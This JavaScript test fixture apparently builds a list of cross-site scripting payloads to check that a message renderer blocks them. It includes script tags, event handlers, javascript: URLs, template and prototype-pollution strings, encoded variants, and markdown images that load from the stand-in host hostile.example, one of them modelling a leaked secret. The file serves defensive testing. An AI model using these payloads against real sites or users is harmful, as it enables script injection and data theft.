// Texts that try to become script, markup, or a request: families of tricks in every place of a message.
//
// Each tries to set `window.__ran`, to open a dialog, or to load something from `hostile.example`; the harness catches all.

const RUN = "window.__ran=1;alert(1)";
const HOST = "https://hostile.example";

/** One trick each. */
const TRICKS = [
  `<script>${RUN}</script>`,
  `<ScRiPt src=${HOST}/a.js></sCrIpT>`,
  `<img src=x onerror="${RUN}">`,
  `<img src="${HOST}/p.png?secret">`,
  `<svg onload=${RUN}>`,
  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s>`,
  `<iframe srcdoc="<script>parent.__ran=1</script>"></iframe>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<details open ontoggle="${RUN}">`,
  `<style>@import url(${HOST}/a.css);*{background:url(${HOST}/b)}</style>`,
  `<link rel=stylesheet href=${HOST}/a.css><link rel=prefetch href=${HOST}/c>`,
  `<meta http-equiv=refresh content="0;url=${HOST}/">`,
  `<base href="${HOST}/"><form action=${HOST}><button autofocus onfocus="${RUN}">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<video><source onerror="${RUN}"></video><audio src=${HOST}/a onerror=${RUN}>`,
  `<object data="javascript:${RUN}"></object><embed src=${HOST}/e.swf>`,
  `"><script>${RUN}</script><b x="`,
  `' onmouseover='${RUN}' autofocus onfocus='${RUN}' x='`,
  `javascript:${RUN}`,
  `java\tscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `{{constructor.constructor('${RUN}')()}} \${${RUN}} <%= ${RUN} %>`,
  `&lt;script&gt;${RUN}&lt;/script&gt; &#x3c;img src=x onerror=${RUN}&#x3e;`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e %3Cscript%3E${RUN}%3C/script%3E`,
  `＜script＞${RUN}＜/script＞ ‹img onerror=${RUN}›`,
  `constructor __proto__ {"__proto__":{"innerHTML":"<img src=x onerror=${RUN}>"}}`,
  `![x](${HOST}/p.png)`,
  `[![x](${HOST}/p.png)](${HOST}/)`,
  `![x][r]\n\n[r]: ${HOST}/p.png "t"`,
  `<${HOST}/a> <mailto:x@hostile.example>`,
];

/** Where it stands in a message. */
const PLACES = {
  bare: (trick) => trick,
  "link target": (trick) => `[click here](${trick})`,
  "link text": (trick) => `[${trick}](https://shop.example/)`,
  "link title": (trick) => `[x](https://shop.example/ "${trick}")`,
  "after https": (trick) => `https://shop.example/${trick}`,
  "code": (trick) => `\`${trick}\``,
  "unfinished fence": (trick) => `\`\`\`html"><b>\n${trick}`,
  "list": (trick) => `1. one\n2. ${trick}\n   - ${trick}`,
  "bold in italics": (trick) => `*a **${trick}** b*`,
  "heading and quote": (trick) => `# ${trick}\n> ${trick}`,
};

/** All of them: `{name, text}`. */
export const PAYLOADS = TRICKS.flatMap((trick, n) => Object.entries(PLACES).map(([place, put]) => ({ name: `trick ${n + 1}, ${place}`, text: put(trick) })));
